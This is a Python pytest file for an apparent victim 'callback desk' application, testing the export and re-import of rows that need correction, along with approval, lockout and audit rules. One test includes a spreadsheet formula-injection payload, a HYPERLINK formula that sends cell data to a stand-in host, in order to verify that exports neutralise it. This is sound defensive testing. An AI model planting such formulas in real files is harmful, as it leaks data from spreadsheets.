"""Rows to correct: signed for, on record, exactly the rows a clerk can mend; corrected ones come in, others stay."""

from __future__ import annotations

import csv
import os
import random
import stat
from pathlib import Path

import pytest

from callback_desk.domain.audit_verify import Finding
from callback_desk.domain.errors import DeskFault, LockedOut, NotAllowed, NotFound, WrongPassword
from callback_desk.domain.ids import BatchId
from callback_desk.domain.incident import Pile
from callback_desk.intake.rows_again import LINE, TO_DO, WRONG
from callback_desk.use_cases import import_report, own_password, undo_import
from callback_desk.use_cases.desk import Desk
from callback_desk.use_cases.import_prepare import ImportStopped
from callback_desk.use_cases.rows_to_correct import RowsSaved, Signature, rows_to_correct, save_rows_to_correct
from scripts.make_export import HEADINGS
from tests.use_cases.made_desks import (
    KEEPER,
    PASSWORD,
    QUIET,
    RUTH,
    SERGEANT,
    SUPERVISOR,
    MovedClock,
    World,
    ask,
    bring_in,
    events,
    plain_rows,
    storage_of,
    write_rows,
)

REASON = "The front office corrects them."
ALONE = Signature(REASON, PASSWORD)
BOTH = Signature(REASON, PASSWORD, KEEPER, PASSWORD)
# What spoils a row, and whether it is the row's own matter to mend it.
SPOILS: dict[str, dict[str, str]] = {
    "no_number": {"Victim Cell Phone": "", "Victim Home Phone": ""},
    "age_missing": {"Victim DOB": ""},
    "report_date_missing": {"Report Date": ""},
    "offense_unknown": {"Offense Code": "QQQ", "Offense Description": "gibberish"},
    "no_case": {"Case Number": ""},
    "bad_report_date": {"Report Date": "the day before"},
    "no_name": {"Victim Last Name": "", "Victim First Name": ""},
    "hidden_characters": {"Victim Last Name": "Qu\x07ill"},
    "cell_error": {"Case Number": "#REF!"},
}
NOT_TO_MEND = {
    "excluded": {"Offense Code": "11A", "Offense Description": "Rape"},
    "held for a word": {"Notes": "Victim has retained an attorney"},
}


@pytest.fixture
def sergeant(world: World) -> Desk:
    return world.enter(SERGEANT)


def made(world: World, count: int, first: int = 60) -> list[dict[str, str]]:
    """On reports of their own: the people who are here already stand on other numbers."""
    rows = plain_rows(count, world.clock.now().date(), first=first)
    return [row | {"Case Number": f"26-7{first + number:05}"} for number, row in enumerate(rows)]


def spoiled(world: World, count: int = 1) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    """Good rows, and the same with every kind of spoil `count` times and good ones between."""
    kinds = [*SPOILS.values(), *NOT_TO_MEND.values(), {}] * count
    good = made(world, len(kinds))
    return good, [row | kind for row, kind in zip(good, kinds, strict=True)]


def save(desk: Desk, batch: int, source: Path | str, target: Path, signature: Signature = ALONE) -> RowsSaved:
    return save_rows_to_correct(
        desk,
        desk.new_operation(),
        BatchId(batch),
        source=source,
        target=target,
        signature=signature,
        cancelled=lambda: False,
    )


def sheet(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def put_back(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def callbacks(desk: Desk) -> dict[tuple[str, str], int]:
    found = ask(desk, "SELECT state, reason, count(*) FROM callbacks GROUP BY 1, 2")
    return {(str(state), str(reason)): int(str(count)) for state, reason, count in found}


def test_exactly_the_rows_a_clerk_can_mend_with_their_cells_and_what_to_do(world: World, sergeant: Desk) -> None:
    _, bad = spoiled(world)
    export = write_rows(world.folder.with_name("export.csv"), bad)
    batch, _ = bring_in(sergeant, export)
    known = rows_to_correct(sergeant, batch.id)
    assert (known.rows, known.needs_second, known.why_not) == (len(SPOILS), False, "")
    target = world.folder.with_name("correct.csv")
    saved = save(sergeant, batch.id, export, target)
    assert (saved.path, saved.written.rows, saved.cloud) == (target, len(SPOILS), "")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = sheet(target)
    assert list(rows[0]) == [LINE, WRONG, TO_DO, *HEADINGS]
    assert [{name: row[name] for name in HEADINGS} for row in rows] == bad[: len(SPOILS)]
    assert [row[LINE] for row in rows] == [str(line) for line in range(2, len(SPOILS) + 2)]
    assert all(row[WRONG] and row[TO_DO] for row in rows)
    assert rows[5][WRONG].startswith("Report Date: ")
    assert sorted(path.name for path in target.parent.iterdir() if path.name.startswith(".callback")) == []


def test_corrected_rows_come_in_and_the_others_stay_with_nobody_called_twice(world: World, sergeant: Desk) -> None:
    good, bad = spoiled(world)
    export = write_rows(world.folder.with_name("export.csv"), bad)
    batch, _ = bring_in(sergeant, export)
    before = callbacks(sergeant)
    target = world.folder.with_name("correct.csv")
    save(sergeant, batch.id, export, target)
    rows = sheet(target)
    unchanged, _ = bring_in(sergeant, target)
    assert unchanged.counts.of(Pile.QUEUED) == unchanged.counts.of(Pile.MERGED) == 0
    assert callbacks(sergeant) == before
    mended = [row | good[int(row[LINE]) - 2] for row in rows]
    back, _ = bring_in(sergeant, put_back(target.with_name("mended.csv"), mended))
    assert back.counts.of(Pile.HELD) == back.counts.of(Pile.REJECTED) == 0
    after = callbacks(sergeant)
    assert after["waiting", ""] == before["waiting", ""] + len(SPOILS)
    assert sum(after.values()) == sum(before.values()) + 5, (
        "the rejected ones are new, the held ones are the same people"
    )
    twice = "SELECT victim_id, count(*) FROM callbacks GROUP BY 1 HAVING count(*) > 1"
    assert ask(sergeant, twice) == []


@pytest.mark.parametrize("seed", range(4))
def test_any_rows_corrected_become_callable_and_any_others_stay(world: World, sergeant: Desk, seed: int) -> None:
    chance = random.Random(seed)
    good, bad = spoiled(world, 2)
    order = chance.sample(range(len(good)), len(good))
    good, bad = [good[index] for index in order], [bad[index] for index in order]
    export = write_rows(world.folder.with_name("export.csv"), bad)
    batch, _ = bring_in(sergeant, export)
    before = callbacks(sergeant)
    target = world.folder.with_name("correct.csv")
    save(sergeant, batch.id, export, target)
    rows = sheet(target)
    assert len(rows) == 2 * len(SPOILS)
    mended = [row | good[int(row[LINE]) - 2] if chance.random() < 0.5 else row for row in rows]
    changed = sum(one != other for one, other in zip(mended, rows, strict=True))
    chance.shuffle(mended)
    bring_in(sergeant, put_back(target.with_name("mended.csv"), mended))
    after = callbacks(sergeant)
    assert after["waiting", ""] == before["waiting", ""] + changed
    assert storage_of(sergeant).verify_audit().finding is Finding.CLEAN


def test_what_a_spreadsheet_could_obey_comes_guarded_and_goes_back_plain(world: World, sergeant: Desk) -> None:
    rows = made(world, 3)
    rows[0] |= {"Notes": '=HYPERLINK("http://x/?"&A1,"ok")', "Victim Address": "+1 Larch St", "Victim DOB": ""}
    rows[1] |= {"Notes": "line one\nline two;=1+1\t@x", "Victim Address": "-", "Victim DOB": ""}
    rows[2] |= {"Notes": "'=kept", "Victim DOB": ""}
    export = write_rows(world.folder.with_name("export.csv"), rows)
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")
    save(sergeant, batch.id, export, target)
    written = sheet(target)
    for row in written:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert written[0]["Notes"] == "'" + rows[0]["Notes"]
    assert written[1]["Notes"] == rows[1]["Notes"]
    assert written[2]["Notes"] == "''=kept"
    assert b";" not in target.read_bytes().replace(rows[1]["Notes"].encode(), b""), "every cell stands in quotes"
    again, _ = bring_in(sergeant, target)
    assert again.counts.reasons == {"here_already": 3}, "they are the very rows that are here"


def test_who_signs_and_what_is_written_down(world: World, sergeant: Desk) -> None:
    export = write_rows(world.folder.with_name("export.csv"), spoiled(world)[1])
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")
    seen = len(events(sergeant))
    with pytest.raises(DeskFault, match="in a few words"):
        save(sergeant, batch.id, export, target, Signature("because", PASSWORD))
    with pytest.raises(WrongPassword, match="Your password is not right") as wrong:
        save(sergeant, batch.id, export, target, Signature(REASON, "not it at all"))
    assert wrong.value.code == "first-password"
    assert events(sergeant)[seen:] == ["stepup.fail"]
    assert not target.exists()
    save(sergeant, batch.id, export, target)
    assert events(sergeant)[seen + 1 :] == ["stepup.ok", "export.start", "export.done"]
    ((kind, about, fields),) = ask(
        sergeant, "SELECT object_kind, object_id, fields FROM audit_events WHERE event = 'export.start'"
    )
    assert (kind, about) == ("batch", str(batch.id))
    assert f'"rows":{len(SPOILS)}' in str(fields).replace(" ", "")
    assert "Quill" not in str(ask(sergeant, "SELECT fields, reason FROM audit_events"))
    ((text, by),) = ask(sergeant, "SELECT text, by_name FROM desk_notes WHERE name LIKE 'rows_to_correct.signed:%'")
    assert (text, by) == (REASON, SERGEANT)
    assert storage_of(sergeant).verify_audit().finding is Finding.CLEAN


def test_more_than_25_rows_need_a_second_human_who_signs(world: World, sergeant: Desk) -> None:
    rows = [row | {"Victim DOB": ""} for row in made(world, 26)]
    export = write_rows(world.folder.with_name("export.csv"), rows)
    batch, _ = bring_in(sergeant, export)
    assert rows_to_correct(sergeant, batch.id).needs_second
    target = world.folder.with_name("correct.csv")
    for name, password, error, said in (
        (SERGEANT, PASSWORD, DeskFault, "somebody else than you"),
        ("nobody here", PASSWORD, DeskFault, "a supervisor or an administrator"),
        (RUTH, PASSWORD, DeskFault, "a supervisor or an administrator"),
        (KEEPER, "wrong for sure", WrongPassword, "The password of Theo Marsh is not right"),
    ):
        with pytest.raises(error, match=said):
            save(sergeant, batch.id, export, target, Signature(REASON, PASSWORD, name, password))
    assert not target.exists()
    saved = save(sergeant, batch.id, export, target, BOTH)
    assert saved.written.rows == 26
    assert events(sergeant)[-4:] == ["stepup.ok", "second.given", "export.start", "export.done"]
    fewer = write_rows(world.folder.with_name("fewer.csv"), [row | {"Victim DOB": ""} for row in made(world, 25, 200)])
    batch, _ = bring_in(sergeant, fewer)
    assert not rows_to_correct(sergeant, batch.id).needs_second
    assert save(sergeant, batch.id, fewer, target.with_name("second.csv")).written.rows == 25


def test_a_one_time_password_signs_nothing_for_whoever_gave_it_out(world: World) -> None:
    dana = world.enter(SUPERVISOR)
    rows = [row | {"Victim DOB": ""} for row in made(world, 26)]
    export = write_rows(world.folder.with_name("export.csv"), rows)
    batch, _ = bring_in(dana, export)
    one_time = "velvet anchors beneath october"
    own_password.reset_password(dana, dana.new_operation(), name=SERGEANT, one_time_password=one_time)
    with pytest.raises(WrongPassword, match="one-time password"):
        save(
            dana,
            batch.id,
            export,
            world.folder.with_name("correct.csv"),
            Signature(REASON, PASSWORD, SERGEANT, one_time),
        )
    assert not world.folder.with_name("correct.csv").exists()


def test_wrong_second_passwords_lock_that_name_out(world: World, sergeant: Desk) -> None:
    rows = [row | {"Victim DOB": ""} for row in made(world, 26)]
    export = write_rows(world.folder.with_name("export.csv"), rows)
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")
    guess = Signature(REASON, PASSWORD, KEEPER, "guess after guess after guess")
    refusals = []
    for _ in range(6):
        with pytest.raises(DeskFault) as refused:
            save(sergeant, batch.id, export, target, guess)
        refusals.append(type(refused.value))
    assert LockedOut in refusals
    assert events(sergeant).count("second.given") == 6


def test_without_a_second_person_the_wish_is_filed_and_free_a_day_later(world: World, sergeant: Desk) -> None:
    assert isinstance(world.clock, MovedClock)
    rows = [row | {"Victim DOB": ""} for row in made(world, 26)]
    export = write_rows(world.folder.with_name("export.csv"), rows)
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")
    for _ in range(2):
        with pytest.raises(DeskFault, match=r"Without one they can be saved from November 18, 10:00, on"):
            save(sergeant, batch.id, export, target)
    assert events(sergeant).count("second.asked") == 1
    asked = rows_to_correct(world.enter(SUPERVISOR), batch.id).asked
    assert asked is not None
    assert asked.by == SERGEANT
    world.clock.move(hours=23, minutes=59)
    with pytest.raises(DeskFault, match="second supervisor"):
        save(sergeant, batch.id, export, target)
    world.clock.move(minutes=1)
    assert save(sergeant, batch.id, export, target).written.rows == 26
    assert rows_to_correct(sergeant, batch.id).asked is None, "a further file is a further wish"


def test_a_file_that_is_gone_or_another_or_in_the_way_is_said(world: World, sergeant: Desk) -> None:
    export = write_rows(world.folder.with_name("export.csv"), spoiled(world)[1])
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")
    content = export.read_bytes()
    export.write_bytes(content + b"\r\n")
    with pytest.raises(DeskFault, match=r"export.csv is not the file that was imported, or it has changed since"):
        save(sergeant, batch.id, export, target)
    export.unlink()
    with pytest.raises(DeskFault, match=r"There is no file export.csv in .* Nothing was saved\."):
        save(sergeant, batch.id, export, target)
    assert events(sergeant).count("export.start") == events(sergeant).count("export.dropped") == 2
    export.write_bytes(content)
    target.write_text("mine", "utf-8")
    with pytest.raises(DeskFault, match=r"There is a file correct.csv already\. It stays as it is"):
        save(sergeant, batch.id, export, target)
    assert target.read_text("utf-8") == "mine"
    target.unlink()
    target.symlink_to(world.folder / "elsewhere.csv")
    with pytest.raises(DeskFault, match="already"):
        save(sergeant, batch.id, export, target)
    assert not (world.folder / "elsewhere.csv").exists()
    with pytest.raises(DeskFault, match="Choose another folder"):
        save(sergeant, batch.id, export, world.folder / "no such folder" / "correct.csv")
    assert not list(target.parent.rglob(".callback-desk-*"))


@pytest.mark.skipif(os.name == "nt", reason="other names there")
def test_a_stop_leaves_nothing_behind(world: World, sergeant: Desk) -> None:
    export = write_rows(world.folder.with_name("export.csv"), spoiled(world)[1])
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")
    with pytest.raises(ImportStopped):
        save_rows_to_correct(
            sergeant,
            sergeant.new_operation(),
            batch.id,
            source=export,
            target=target,
            signature=ALONE,
            cancelled=lambda: True,
        )
    assert not target.exists()
    assert not list(target.parent.glob(".callback-desk-*"))
    assert events(sergeant)[-1] == "export.dropped"


def test_a_kill_in_between_is_found_at_the_next_sign_in(world: World, sergeant: Desk, monkeypatch) -> None:
    assert isinstance(world.clock, MovedClock)
    export = write_rows(world.folder.with_name("export.csv"), spoiled(world)[1])
    batch, _ = bring_in(sergeant, export)
    target = world.folder.with_name("correct.csv")

    class Killed(BaseException):
        pass

    def killed(*_given: object, **_named: object) -> None:
        target.with_name(".callback-desk-0123456789abcdef.part").write_text("half", "utf-8")
        raise Killed

    monkeypatch.setattr("callback_desk.bootstrap.rows_again.write_rows", killed)
    monkeypatch.setattr("callback_desk.use_cases.rows_to_correct._close", killed)
    with pytest.raises(Killed):
        save(sergeant, batch.id, export, target)
    world.enter(SUPERVISOR)
    assert list(target.parent.glob(".callback-desk-*")), "somebody may still be at it"
    world.clock.move(minutes=16)
    again = world.enter(SUPERVISOR)
    assert not list(target.parent.glob(".callback-desk-*"))
    said = events(again)
    assert said.count("export.start") == said.count("export.dropped") == 1


def test_pasted_rows_are_read_from_what_was_pasted_and_typed_ones_not_at_all(world: World, sergeant: Desk) -> None:
    path = write_rows(world.folder.with_name("export.csv"), spoiled(world)[1])
    text = path.read_text("utf-8")
    path.unlink()
    session = import_report.open_import(sergeant, None, pasted=text)
    try:
        preview = import_report.check_rows(sergeant, session, None, **QUIET)
        batch = import_report.import_rows(
            sergeant,
            sergeant.new_operation(),
            session,
            preview,
            file_name="Pasted rows",
            layout=None,
            turn=lambda: None,
            progress=QUIET["progress"],
        )
    finally:
        session.close()
    target = world.folder.with_name("correct.csv")
    with pytest.raises(DeskFault, match="not the rows that were pasted"):
        save(sergeant, batch.id, text + "x", target)
    assert save(sergeant, batch.id, text, target).written.rows == len(SPOILS)


def test_what_has_nothing_to_correct_says_so(world: World, sergeant: Desk) -> None:
    export = write_rows(world.folder.with_name("export.csv"), made(world, 3))
    batch, _ = bring_in(sergeant, export)
    assert rows_to_correct(sergeant, batch.id).why_not == "No row of this import needs to be corrected."
    with pytest.raises(DeskFault, match="No row of this import needs"):
        save(sergeant, batch.id, export, world.folder.with_name("correct.csv"))
    undo_import.undo_batch(sergeant, sergeant.new_operation(), batch.id)
    assert "taken back" in rows_to_correct(sergeant, batch.id).why_not
    with pytest.raises(NotFound):
        rows_to_correct(sergeant, BatchId(4711))


def test_a_fact_without_a_column_is_no_matter_of_the_rows(world: World, sergeant: Desk) -> None:
    headings = tuple(name for name in HEADINGS if name != "Victim Condition")
    export = write_rows(world.folder.with_name("export.csv"), made(world, 3), headings)
    batch, _ = bring_in(sergeant, export)
    assert batch.counts.of(Pile.HELD) == 3
    assert rows_to_correct(sergeant, batch.id).rows == 0


def test_a_row_of_several_people_comes_once_and_only_who_was_mended_moves(world: World, sergeant: Desk) -> None:
    common = ("Case Number", "Report Date", "Offense Code", "Domestic Violence")
    own = ("Name", "Phone", "DOB", "Type", "Condition")
    headings = (*common, *(f"Victim {number} {name}" for number in (1, 2) for name in own))
    one, two = made(world, 2)
    cells = [one[name] for name in common]
    for row in (one, two):
        name = f"{row['Victim Last Name']}, {row['Victim First Name']}"
        cells += [name, row["Victim Cell Phone"], row["Victim DOB"], row["Victim Type"], row["Victim Condition"]]
    both = dict(zip(headings, cells, strict=True))
    path = world.folder.with_name("two in a row.csv")
    write_rows(path, [both | {"Victim 2 DOB": ""}], headings)
    batch, _ = bring_in(sergeant, path)
    assert {pile: batch.counts.of(pile) for pile in (Pile.QUEUED, Pile.HELD)} == {Pile.QUEUED: 1, Pile.HELD: 1}
    target = world.folder.with_name("correct.csv")
    assert save(sergeant, batch.id, path, target).written.rows == 1
    (written,) = sheet(target)
    before = callbacks(sergeant)
    written["Victim 2 DOB"] = two["Victim DOB"]
    bring_in(sergeant, put_back(target.with_name("mended.csv"), [written]))
    after = callbacks(sergeant)
    assert after["waiting", ""] == before["waiting", ""] + 1
    assert sum(after.values()) == sum(before.values())


def test_a_volunteer_is_refused_with_a_sentence(world: World, sergeant: Desk) -> None:
    export = write_rows(world.folder.with_name("export.csv"), spoiled(world)[1])
    batch, _ = bring_in(sergeant, export)
    with pytest.raises(NotAllowed, match=r"This is for supervisors\. You are signed in as Ruth Keller\."):
        save(world.enter(RUTH), batch.id, export, world.folder.with_name("correct.csv"))
    assert not world.folder.with_name("correct.csv").exists()
